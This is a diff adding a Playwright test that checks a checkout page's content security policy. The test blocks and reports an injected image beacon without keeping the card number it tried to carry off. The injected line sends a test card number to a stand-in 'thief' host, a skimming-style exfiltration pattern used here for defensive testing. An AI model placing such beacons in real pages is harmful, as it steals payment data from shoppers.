@@ -1,0 +1,20 @@
+import { expect, test } from '@playwright/test';
+import { journeyStoreFolder } from '../src/store/journey-store';
+import { queryStore } from '../src/store/store-database';
+
+test('what a checkout document refuses arrives at the API, without what was to be carried away', async ({
+  page,
+}) => {
+  const host = `thief${Date.now() % 100_000}.test`;
+  await page.goto('/events/harbor/checkout');
+  await page.evaluate((address) => {
+    new Image().src = address;
+  }, `https://${host}/?card=4111111111111111`);
+  const kept = () =>
+    queryStore(
+      journeyStoreFolder,
+      'select page, directive, blocked, count from policy_reports where blocked = $1',
+      [host],
+    );
+  await expect.poll(kept).toEqual([{ page: 'checkout', directive: 'img-src', blocked: host, count: '1' }]);
+});
